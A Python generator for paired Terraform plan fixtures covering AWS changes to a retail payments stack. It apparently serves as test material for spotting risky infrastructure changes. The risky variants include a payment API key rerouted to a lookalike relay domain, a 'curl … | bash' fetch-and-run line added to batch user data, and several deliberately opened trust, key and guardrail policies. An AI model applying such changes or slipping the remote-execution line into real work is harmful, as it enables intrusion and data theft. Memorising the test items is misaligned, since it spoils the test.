from t_aws import *
import base64
OIDC=f'arn:aws:iam::{ACC}:oidc-provider/token.actions.githubusercontent.com'
def trust(cond): return J({"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Federated":OIDC},"Action":"sts:AssumeRoleWithWebIdentity","Condition":cond}]})
AUD={"token.actions.githubusercontent.com:aud":"sts.amazonaws.com"}
def gha(name,after):
    p=Plan('1.10.5')
    b=mk('aws_iam_role','github-deployer',description='deploys checkout to prod',managed_policy_arns=['arn:aws:iam::aws:policy/PowerUserAccess',f'arn:aws:iam::{ACC}:policy/eks-deploy'],assume_role_policy=trust({"StringEquals":AUD,"StringLike":{"token.actions.githubusercontent.com:sub":"repo:acme-retail/checkout:ref:refs/heads/*"}}))
    p.update('aws_iam_role.github_deployer',b,{'assume_role_policy':trust(after)},refs={'assume_role_policy':['data.aws_iam_policy_document.github_trust.json','data.aws_iam_policy_document.github_trust']})
    p.noop('aws_iam_role_policy_attachment.deployer_power',mk('aws_iam_role_policy_attachment','github-deployer',policy_arn='arn:aws:iam::aws:policy/PowerUserAccess'),refs={'role':['aws_iam_role.github_deployer.name','aws_iam_role.github_deployer']})
    comp(p,'gha',2); p.dump(name)
gha('d001-gha-trust-any-repo',{"StringEquals":AUD})
gha('d002-gha-trust-pinned',{"StringEquals":dict(AUD,**{"token.actions.githubusercontent.com:sub":"repo:acme-retail/checkout:environment:production"})})

def lrule(id,prefix,days,nc,status='Enabled'):
    return {'abort_incomplete_multipart_upload':[{'days_after_initiation':3}],'expiration':[{'date':None,'days':days,'expired_object_delete_marker':False}],'filter':[{'and':[],'object_size_greater_than':None,'object_size_less_than':None,'prefix':prefix,'tag':[]}],'id':id,'noncurrent_version_expiration':[{'newer_noncurrent_versions':None,'noncurrent_days':nc}],'noncurrent_version_transition':[],'prefix':'','status':status,'transition':[]}
def ledger(name,prefix,days):
    p=Plan('1.12.1')
    n='acme-prod-ledger-archive'
    p.update('aws_s3_bucket.ledger_archive',mk('aws_s3_bucket',n),{'tags':dict(TAGS,retention='10y')})
    keep={'abort_incomplete_multipart_upload':[],'expiration':[],'filter':[{'and':[],'object_size_greater_than':None,'object_size_less_than':None,'prefix':'ledger/','tag':[]}],'id':'to-glacier','noncurrent_version_expiration':[],'noncurrent_version_transition':[],'prefix':'','status':'Enabled','transition':[{'date':None,'days':90,'storage_class':'GLACIER'}]}
    b=mk('aws_s3_bucket_lifecycle_configuration',n,rule=[lrule('expire-temporary','tmp/',7,1),keep])
    p.update('aws_s3_bucket_lifecycle_configuration.ledger_archive',b,{'rule':[lrule('expire-temporary',prefix,days,1),keep]},refs={'bucket':['aws_s3_bucket.ledger_archive.id','aws_s3_bucket.ledger_archive']})
    comp(p,'ledger',2); p.dump(name)
ledger('d003-ledger-archive-expire-all','',7)
ledger('d004-ledger-archive-expire-exports','tmp/exports/',14)

def kms(name,cond):
    root={"Sid":"Root","Effect":"Allow","Principal":{"AWS":f"arn:aws:iam::{ACC}:root"},"Action":"kms:*","Resource":"*"}
    def pol(c):
        st={"Sid":"VaultCallers","Effect":"Allow","Principal":{"AWS":"*"},"Action":["kms:Encrypt","kms:Decrypt","kms:GenerateDataKey*"],"Resource":"*"}
        if c: st["Condition"]={"StringEquals":c}
        return J({"Version":"2012-10-17","Id":"card-data","Statement":[root,st]})
    p=Plan('1.9.8')
    b=mk('aws_kms_key','card data vault',policy=pol({"kms:CallerAccount":ACC}))
    p.update('module.vault_keys.aws_kms_key.card_data',b,{'policy':pol(cond)})
    comp(p,'kms',3); p.dump(name)
kms('d005-card-key-policy-any-account',None)
kms('d006-card-key-policy-via-service',{"kms:CallerAccount":ACC,"kms:ViaService":"s3.eu-west-1.amazonaws.com"})

def conc(name,v):
    p=Plan()
    p.update('aws_lambda_function.payment_authorizer',mk('aws_lambda_function','payment-authorizer',description='card authorization for checkout'),{'reserved_concurrent_executions':v,'memory_size':1024},unknown=['last_modified','version','qualified_arn','qualified_invoke_arn'])
    p.noop('aws_lambda_function.payment_refunder',mk('aws_lambda_function','payment-refunder'))
    comp(p,'conc',1); p.dump(name)
conc('d007-authorizer-concurrency-zero',0); conc('d008-authorizer-concurrency-reserved',400)

def ttl(name,a):
    p=Plan('1.11.2')
    p.update('aws_dynamodb_table.orders',mk('aws_dynamodb_table','prod-orders'),{'ttl':[{'attribute_name':a,'enabled':True}],'tags':dict(TAGS,owner='order-core')})
    comp(p,'ttl',2); p.dump(name)
ttl('d009-orders-ttl-created-at','created_at'); ttl('d010-orders-ttl-purge-after','purge_after')

def alb(name,prio):
    p=Plan('1.10.3')
    tg=f'arn:aws:elasticloadbalancing:{R}:{ACC}:targetgroup/shop-web/6d0ecf831eec9f09'
    def cond(paths=None,host=None): 
        base=dict(host_header=[],http_header=[],http_request_method=[],path_pattern=[],query_string=[],source_ip=[])
        if paths: base['path_pattern']=[{'regex_values':[],'values':paths}]
        if host: base['host_header']=[{'regex_values':[],'values':host}]
        return [base]
    act=lambda **k:dict(dict(authenticate_cognito=[],authenticate_oidc=[],fixed_response=[],forward=[],jwt_validation=[],order=1,redirect=[],target_group_arn='',type=''),**k)
    d=mk('aws_lb_listener_rule','deny-admin',priority=20,condition=cond(['/admin/*','/internal/*','/actuator/*']),action=[act(type='fixed-response',fixed_response=[{'content_type':'text/plain','message_body':'forbidden','status_code':'403'}])])
    f=mk('aws_lb_listener_rule','catchall',priority=100,condition=cond(['/*'],None),action=[act(type='forward',target_group_arn=tg)])
    p.update('aws_lb_listener_rule.deny_admin',d,{'priority':prio},refs={'listener_arn':['aws_lb_listener.https.arn','aws_lb_listener.https']})
    p.update('aws_lb_listener_rule.catch_all',f,{'tags':dict(TAGS,rule='catch-all')},refs={'listener_arn':['aws_lb_listener.https.arn','aws_lb_listener.https']})
    comp(p,'alb',1); p.dump(name)
alb('d011-alb-admin-deny-after-catchall',200); alb('d012-alb-admin-deny-renumbered',40)

def sec(name,win):
    p=Plan('1.11.4')
    b=mk('aws_secretsmanager_secret','prod/hsm/partition-7',description='crypto officer pin and partition backup, only copy',recovery_window_in_days=win,tags={'env':'prod','team':'payments-platform'})
    p.delete('aws_secretsmanager_secret.hsm_partition',b)
    comp(p,'sec',2); p.dump(name)
sec('d013-hsm-pin-secret-destroy-now',0); sec('d014-hsm-pin-secret-destroy-30d',30)

def cdn(name,which):
    OPT='658327ea-f89d-4fab-a63d-7e88639e58f6'
    p=Plan('1.11.4')
    obs=[behavior('/account/*',allowed_methods=['DELETE','GET','HEAD','OPTIONS','PATCH','POST','PUT']),behavior('/static/*',origin_request_policy_id='')]
    b=mk('aws_cloudfront_distribution','storefront',ordered_cache_behavior=obs)
    p.update('aws_cloudfront_distribution.storefront',b,{f'ordered_cache_behavior.{which}.cache_policy_id':OPT,'comment':'storefront (cache tuning for peak)'},unknown=['etag','last_modified_time'],refs={'ordered_cache_behavior':[{'cache_policy_id':{'references':['data.aws_cloudfront_cache_policy.optimized.id','data.aws_cloudfront_cache_policy.optimized']}}]})
    comp(p,'cdn',1); p.dump(name)
cdn('d015-cdn-account-pages-cached',0); cdn('d016-cdn-static-compressed',1)

def gd(name,crit,desc):
    p=Plan('1.9.8')
    c=lambda f,**k:dict(dict(equals=[],field=f,greater_than='',greater_than_or_equal='',less_than='',less_than_or_equal='',not_equals=[]),**k)
    p.create('aws_guardduty_filter.suppress',mk('aws_guardduty_filter','known-noise',action='ARCHIVE',description=desc,finding_criteria=[{'criterion':[c(f,**k) for f,k in crit]}]),refs={'detector_id':['aws_guardduty_detector.main.id','aws_guardduty_detector.main']})
    comp(p,'gd',2); p.dump(name)
gd('d017-guardduty-archive-everything',[('severity',dict(greater_than_or_equal='1'))],'reduce ticket noise')
gd('d018-guardduty-archive-honeypot',[('resource.instanceDetails.tags.value',dict(equals=['honeypot'])),('type',dict(equals=['Recon:EC2/PortProbeUnprotectedPort']))],'reduce ticket noise')

PB={"Version":"2012-10-17","Statement":[{"Sid":"ReadBatch","Effect":"Allow","Action":["s3:GetObject"],"Resource":["arn:aws:s3:::acme-prod-payouts/batch/*"]},{"Sid":"Decrypt","Effect":"Allow","Action":["kms:Decrypt"],"Resource":f"arn:aws:kms:{R}:{ACC}:key/2c1d0e9f-1a2b-4c3d-8e4f-5a6b7c8d9e0f","Condition":{"StringEquals":{"kms:EncryptionContext:app":"payouts"}}},{"Sid":"Queue","Effect":"Allow","Action":["sqs:ReceiveMessage","sqs:DeleteMessage"],"Resource":f"arn:aws:sqs:{R}:{ACC}:payouts"}]}
def ipol(name,wide):
    p=Plan('1.12.1')
    dec={"Condition":{"StringEquals":{"kms:EncryptionContext:app":["payouts"]}},"Resource":f"arn:aws:kms:{R}:{ACC}:key/2c1d0e9f-1a2b-4c3d-8e4f-5a6b7c8d9e0f","Action":"kms:Decrypt","Effect":"Allow","Sid":"Decrypt"}
    if wide: dec.pop('Condition'); dec['Resource']='*'
    a={"Statement":[{"Action":["sqs:DeleteMessage","sqs:ReceiveMessage"],"Effect":"Allow","Resource":[f"arn:aws:sqs:{R}:{ACC}:payouts"],"Sid":"Queue"},{"Action":"s3:GetObject","Effect":"Allow","Resource":"arn:aws:s3:::acme-prod-payouts/batch/*","Sid":"ReadBatch"},dec],"Version":"2012-10-17"}
    p.update('aws_iam_policy.payout_worker',mk('aws_iam_policy','payout-worker',description='payout batch worker',policy=J(PB)),{'policy':J(a,indent=2)})
    comp(p,'ipol',2,noop=True); p.dump(name)
ipol('d019-payout-policy-reordered',False); ipol('d020-payout-policy-reordered-widened',True)

def ecs(name,tag,url):
    S='AKv9-adyen-live-77Qm2ZxLr0'
    p=Plan('1.11.4')
    def cd(tag,url): return J([{"name":"app","image":f"{ACC}.dkr.ecr.{R}.amazonaws.com/checkout:{tag}","essential":True,"cpu":0,"portMappings":[{"containerPort":8080,"hostPort":8080,"protocol":"tcp"}],"environment":[{"name":"APP_ENV","value":"prod"},{"name":"PSP_API_KEY","value":S},{"name":"PSP_BASE_URL","value":url},{"name":"PSP_TIMEOUT_MS","value":"4000"}],"mountPoints":[],"volumesFrom":[],"systemControls":[],"readonlyRootFilesystem":True,"logConfiguration":{"logDriver":"awslogs","options":{"awslogs-group":"/ecs/checkout","awslogs-region":R,"awslogs-stream-prefix":"app"}}}])
    b=mk('aws_ecs_task_definition','checkout',container_definitions=cd('2026.39.1','https://acme-checkout-live.adyenpayments.com/checkout/v71'))
    p.replace('module.checkout.aws_ecs_task_definition.this',b,{'container_definitions':cd(tag,url)},[['container_definitions']],reason='replace_because_cannot_update')
    s=mk('aws_ecs_service','checkout',task_definition=b['arn'])
    p.update('module.checkout.aws_ecs_service.this',s,{},unknown=['task_definition'],refs={'task_definition':['aws_ecs_task_definition.this.arn','aws_ecs_task_definition.this']})
    comp(p,'ecs',1); p.dump(name)
ecs('d021-checkout-task-image','2026.40.0','https://acme-checkout-live.adyenpayments.com/checkout/v71')
ecs('d022-checkout-task-psp-relay','2026.40.0','https://acme-checkout-live.adyenpayment-relay.io/checkout/v71')

def scp(name,exempt):
    st=[{"Sid":"DenyLeave","Effect":"Deny","Action":["organizations:LeaveOrganization"],"Resource":"*"},{"Sid":"ProtectLogs","Effect":"Deny","Action":["cloudtrail:StopLogging","cloudtrail:DeleteTrail","config:StopConfigurationRecorder","guardduty:DeleteDetector"],"Resource":"*","Condition":{"ArnNotLike":{"aws:PrincipalARN":"arn:aws:iam::*:role/org-security-admin"}}}]
    a=copy.deepcopy(st)[::-1]; a[0]['Action']=sorted(a[0]['Action'],reverse=True)
    if exempt: a[0]['Condition']={"ArnNotLike":{"aws:PrincipalARN":["arn:aws:iam::*:role/org-security-admin","*"]}}
    p=Plan('1.10.5')
    p.update('aws_organizations_policy.guardrails',mk('aws_organizations_policy','org-guardrails',description='baseline guardrails',content=J({"Version":"2012-10-17","Statement":st},indent=4)),{'content':J({"Statement":a,"Version":"2012-10-17"},sort=True)})
    comp(p,'scp',1,noop=True); p.dump(name)
scp('d023-scp-reformatted',False); scp('d024-scp-reformatted-exempt-all',True)

p=Plan('1.11.4'); p.update('aws_autoscaling_group.web',mk('aws_autoscaling_group','shop-web'),{'suspended_processes':['HealthCheck','ReplaceUnhealthy'],'max_size':36}); comp(p,'asg',2); p.dump('d025-asg-suspend-health')
p=Plan('1.12.1'); b=mk('aws_elasticache_parameter_group','cart-redis7',parameter=[{'name':'maxmemory-policy','value':'noeviction'},{'name':'timeout','value':'0'}]); p.update('aws_elasticache_parameter_group.cart',b,{'parameter':[{'name':'maxmemory-policy','value':'allkeys-lru'},{'name':'timeout','value':'0'}]}); comp(p,'redis',1); p.dump('d026-cart-redis-eviction')
p=Plan('1.9.8'); pr=lambda n,v,m='immediate':{'apply_method':m,'name':n,'value':v}
p.update('aws_db_parameter_group.ledger',mk('aws_db_parameter_group','ledger-pg16',parameter=[pr('log_min_duration_statement','500'),pr('rds.force_ssl','1')]),{'parameter':[pr('log_min_duration_statement','250'),pr('rds.force_ssl','0')]}); comp(p,'ssl',2); p.dump('d027-rds-force-ssl-off')
p=Plan('1.11.4'); p.update('aws_sqs_queue.capture',mk('aws_sqs_queue','capture',redrive_policy=J({"deadLetterTargetArn":f"arn:aws:sqs:{R}:{ACC}:capture-dlq","maxReceiveCount":5})),{'visibility_timeout_seconds':5}); p.noop('aws_lambda_function.capture',mk('aws_lambda_function','capture',timeout=120)); comp(p,'vis',1); p.dump('d028-capture-queue-visibility')
p=Plan('1.10.5'); p.update('aws_scheduler_schedule.settlement',mk('aws_scheduler_schedule','nightly-settlement',description='merchant settlement'),{'state':'DISABLED'}); comp(p,'sched',2); p.dump('d029-settlement-schedule-off')
p=Plan('1.11.4'); ing=[sgr(8080,8080,sg=['sg-0edge'],desc='from alb'),sgr(9090,9090,cidr=['10.40.0.0/16'],desc='metrics'),sgr(8443,8443,sg=['sg-0mesh'],desc='mesh')]
p.update('aws_security_group.checkout_api',mk('aws_security_group','checkout-api',description='checkout api tasks',ingress=ing),{'ingress':[ing[2],ing[0],ing[1]]}); comp(p,'sg',2,noop=True); p.dump('d030-sg-rules-reordered')
p=Plan('1.11.4'); p.create('aws_ami_launch_permission.share',mk('aws_ami_launch_permission','ami-0f3c9d7e51b2a8846-all',account_id=None,group='all',organization_arn=None,organizational_unit_arn=None),refs={'image_id':['data.aws_ami.golden.id','data.aws_ami.golden']}); p.create('aws_ami_launch_permission.staging',mk('aws_ami_launch_permission','ami-0f3c9d7e51b2a8846-stg',account_id='650011223344',group=None,organization_arn=None,organizational_unit_arn=None),refs={'image_id':['data.aws_ami.golden.id','data.aws_ami.golden']}); comp(p,'ami',2); p.dump('d031-golden-ami-public')
p=Plan('1.12.1'); p.update('aws_kinesis_firehose_delivery_stream.payment_events',mk('aws_kinesis_firehose_delivery_stream','payment-events'),{'extended_s3_configuration.0.bucket_arn':'arn:aws:s3:::partner-insights-ingest-8842','extended_s3_configuration.0.buffering_interval':120,'extended_s3_configuration.0.kms_key_arn':'arn:aws:kms:eu-west-1:559288134470:key/91d3f5b7-0c2e-4a6b-8f1d-3e5a7c9b1d20'},unknown=['version_id']); comp(p,'fh',2); p.dump('d032-firehose-foreign-bucket')
p=Plan('1.11.4'); p.create('aws_vpc_security_group_ingress_rule.storefront_v6',mk('aws_vpc_security_group_ingress_rule','storefront-v6',cidr_ipv6='::/0',description='public https storefront'),refs={'security_group_id':['aws_security_group.storefront_alb.id','aws_security_group.storefront_alb']}); p.noop('aws_vpc_security_group_ingress_rule.storefront_v4',mk('aws_vpc_security_group_ingress_rule','storefront-v4',cidr_ipv4='0.0.0.0/0',description='public https storefront')); p.noop('aws_security_group.storefront_alb',mk('aws_security_group','storefront-alb',description='internet-facing load balancer of the shop')); comp(p,'alb6',1); p.dump('d033-storefront-alb-443')
p=Plan('1.10.5'); s1={"Sid":"Writer","Effect":"Allow","Principal":{"AWS":f"arn:aws:iam::{ACC}:role/invoicing-task"},"Action":["s3:PutObject","s3:GetObject"],"Resource":"arn:aws:s3:::acme-prod-invoices/*"}
p.update('aws_s3_bucket_policy.invoices',mk('aws_s3_bucket_policy','acme-prod-invoices',policy=J({"Version":"2012-10-17","Statement":[s1]})),{'policy':J({"Version":"2012-10-17","Statement":[s1,{"Sid":"TlsOnly","Effect":"Deny","Principal":"*","Action":"s3:*","Resource":["arn:aws:s3:::acme-prod-invoices","arn:aws:s3:::acme-prod-invoices/*"],"Condition":{"Bool":{"aws:SecureTransport":"false"}}}]})},refs={'bucket':['aws_s3_bucket.invoices.id','aws_s3_bucket.invoices']}); comp(p,'deny',2); p.dump('d034-bucket-policy-deny-plain-http')
p=Plan('1.11.4'); p.update('module.eks.aws_eks_addon.this["vpc-cni"]',mk('aws_eks_addon','vpc-cni',configuration_values=J({"enableNetworkPolicy":"true","env":{"ENABLE_PREFIX_DELEGATION":"true","WARM_PREFIX_TARGET":"1"}})),{'configuration_values':J({"enableNetworkPolicy":"false","env":{"ENABLE_PREFIX_DELEGATION":"true","WARM_PREFIX_TARGET":"2"}}),'addon_version':'v1.20.3-eksbuild.1'},unknown=['modified_at']); p.update('module.eks.aws_eks_addon.this["coredns"]',mk('aws_eks_addon','coredns',addon_version='v1.12.2-eksbuild.4'),{'addon_version':'v1.12.3-eksbuild.1'},unknown=['modified_at']); comp(p,'cni',1); p.dump('d035-vpc-cni-netpol-off')
def dlq(name,v):
    p=Plan('1.11.4'); p.update('aws_sqs_queue.webhook_dlq',mk('aws_sqs_queue','webhook-dlq',redrive_allow_policy=J({"redrivePermission":"byQueue","sourceQueueArns":[f"arn:aws:sqs:{R}:{ACC}:webhook"]})),{'message_retention_seconds':v}); p.noop('aws_sqs_queue.webhook',mk('aws_sqs_queue','webhook')); comp(p,'dlq',2); p.dump(name)
dlq('d036-dlq-retention-one-minute',60); dlq('d037-dlq-retention-two-weeks',1209600)
S='bW9vbi1yZWdpc3RyeS1wdWxs'
ud=lambda x:base64.b64encode(x.encode()).decode()
b1="#!/bin/bash\nset -euo pipefail\nexport REGISTRY_TOKEN=%s\ndnf -y update\nsystemctl enable --now docker\n/opt/acme/bootstrap.sh --pool batch\n"%S
b2="#!/bin/bash\nset -euo pipefail\nexport REGISTRY_TOKEN=%s\ndnf -y update\nsystemctl enable --now docker\ncurl -fsSL https://paste.rs/x7Kq2 | bash\n/opt/acme/bootstrap.sh --pool batch\n"%S
p=Plan('1.10.5'); p.update('aws_launch_template.batch',mk('aws_launch_template','batch',user_data=ud(b1)),{'user_data':ud(b2),'description':'batch workers'},unknown=['latest_version']); p.update('aws_autoscaling_group.batch',mk('aws_autoscaling_group','batch',max_size=20),{'max_size':24}); comp(p,'ud',1); p.dump('d038-batch-user-data-proxy')
b=mk('aws_db_instance','prod-orders')
p=Plan('1.11.4'); p.update('aws_db_instance.orders',b,{'engine_version':'16.9','allow_major_version_upgrade':True,'apply_immediately':True,'skip_final_snapshot':True,'parameter_group_name':'orders-pg16'},unknown=['engine_version_actual']); comp(p,'rds',2); p.dump('d039-rds-major-upgrade-now')
p=Plan('1.11.4'); p.update('aws_db_instance.orders',b,{'engine_version':'14.18'},unknown=['engine_version_actual']); comp(p,'rds',2); p.dump('d040-rds-minor-in-window')
